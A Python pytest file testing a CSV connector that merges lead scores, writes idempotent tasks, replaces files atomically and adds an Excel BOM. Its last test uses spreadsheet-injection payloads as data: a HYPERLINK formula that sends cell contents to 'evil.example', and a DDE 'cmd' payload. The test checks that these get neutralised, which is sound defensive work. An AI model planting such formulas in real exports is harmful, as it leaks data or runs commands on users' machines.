"""Writing scores.csv and tasks.csv: merge, idempotent tasks, atomic replace, Excel-friendly BOM."""

from __future__ import annotations

import csv
import io
import os
from datetime import datetime, timezone

import pytest

from leadsync.connectors.base import ScoreUpdate, TaskRequest
from leadsync.connectors.builtin import csvfiles
from leadsync.core.models import Segment

SCORED_AT = datetime(2025, 4, 1, 1, 0, tzinfo=timezone.utc)


def _score(email: str | None, total: int, segment: Segment = Segment.WARM, lead_key: str | None = None) -> ScoreUpdate:
    return ScoreUpdate(
        key=f"score:{email or lead_key}:{total}", lead_key=lead_key or email or "", email=email, record_id=None,
        score=total, behavior_score=total - 20, attribute_score=20, segment=segment, sheet_version="v1",
        scored_at=SCORED_AT,
    )


def _task(key: str, email: str = "a@b.jp") -> TaskRequest:
    return TaskRequest(
        key=key, lead_key=email, email=email, record_id=None, owner="sato", subject="【ホットリード】株式会社サンプル",
        body="価格ページ閲覧 +25\n資料ダウンロード +20", due_at=datetime(2025, 4, 2, 0, 0, tzinfo=timezone.utc),
    )


def _rows(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "output must be UTF-8 with BOM for Excel"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_scores_are_merged_by_email(connector, folder):
    results = connector.push_scores([_score("a@b.jp", 60), _score(None, 30, Segment.COLD, lead_key="sheet:L9")])
    assert [r.ok for r in results] == [True, True]
    connector.push_scores([_score("a@b.jp", 95, Segment.HOT), _score("c@d.jp", 10, Segment.COLD)])
    rows = _rows(folder / "out" / "scores.csv")
    assert list(rows[0]) == list(csvfiles.SCORE_COLUMNS)
    by_email = {row["email"]: row for row in rows}
    assert len(rows) == 3
    assert by_email["a@b.jp"]["score"] == "95" and by_email["a@b.jp"]["segment"] == "hot"
    assert by_email["sheet:L9"]["segment"] == "cold"
    # Written in the connection's time zone, with its offset.
    assert by_email["c@d.jp"]["scored_at"] == "2025-04-01T10:00:00+09:00"


def test_tasks_are_idempotent_by_key(connector, folder):
    first = connector.create_tasks([_task("t1"), _task("t2"), _task("t1")])
    assert [r.ok for r in first] == [True, True, True]
    again = connector.create_tasks([_task("t2"), _task("t3", "x@y.jp")])
    assert [r.external_id for r in again] == ["t2", "t3"]
    rows = _rows(folder / "out" / "tasks.csv")
    assert [row["key"] for row in rows] == ["t1", "t2", "t3"]
    assert rows[0]["body"] == "価格ページ閲覧 +25\n資料ダウンロード +20"
    assert rows[0]["due_at"] == "2025-04-02T09:00:00+09:00" and rows[0]["owner"] == "sato"


def test_failed_write_leaves_the_old_file_and_no_temp(connector, folder, monkeypatch):
    connector.create_tasks([_task("t1")])
    path = folder / "out" / "tasks.csv"
    before = path.read_bytes()

    def broken_replace(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(csvfiles.os, "replace", broken_replace)
    results = connector.create_tasks([_task("t2")])
    assert results[0].ok is False and results[0].retryable is True and "No space left" in results[0].error
    assert path.read_bytes() == before
    assert sorted(os.listdir(folder / "out")) == ["tasks.csv"]


def test_write_dying_midway_leaves_no_partial_file(folder):
    path = folder / "scores.csv"
    csvfiles.write_csv_atomic(path, ["email"], [{"email": "old@b.jp"}])

    def rows():
        yield {"email": "new@b.jp"}
        raise RuntimeError("killed")

    with pytest.raises(RuntimeError):
        csvfiles.write_csv_atomic(path, ["email"], rows())
    assert path.read_bytes() == b"\xef\xbb\xbfemail\r\nold@b.jp\r\n"
    assert os.listdir(folder) == ["scores.csv"]


def test_check_reports_folders_and_headers(connector, write, folder):
    write("leads.csv", "email\na@b.jp\n")
    write("activities.csv", "email,type\n")
    result = connector.check()
    assert not result.ok
    by_what = {what: (ok, detail) for what, ok, detail in result.items}
    assert by_what[str(folder / "leads.csv")][0] is True
    assert "missing column 'occurred_at'" in by_what[str(folder / "activities.csv")][1]
    assert by_what[f"output folder {folder / 'out'}"] == (True, "will be created")
    assert connector.setup() == [f"created folder {folder / 'out'}"]
    write("activities.csv", "email,type,occurred_at\n")
    assert connector.check().ok


def test_tasks_text_is_safe_for_excel_while_keys_and_scores_stay_exact(connector, folder):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    task = TaskRequest(
        key="ls-1", lead_key="=x@b.jp", email="=x@b.jp", record_id=None, owner="sato", subject=formula,
        body="-2+3+cmd|' /C calc'!A0", due_at=datetime(2025, 4, 2, 0, 0, tzinfo=timezone.utc),
    )
    connector.create_tasks([task])
    connector.create_tasks([_task("ls-2")])  # a rewrite keeps the neutralised cells as they are
    [row, _] = _rows(folder / "out" / "tasks.csv")
    assert row["subject"] == "'" + formula and row["body"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["key"] == "ls-1" and row["email"] == "=x@b.jp"  # machine-read columns: exact
    connector.push_scores([_score("=x@b.jp", -5)])
    [score] = _rows(folder / "out" / "scores.csv")
    assert score["email"] == "=x@b.jp" and score["behavior_score"] == "-25"  # the MA import joins on these
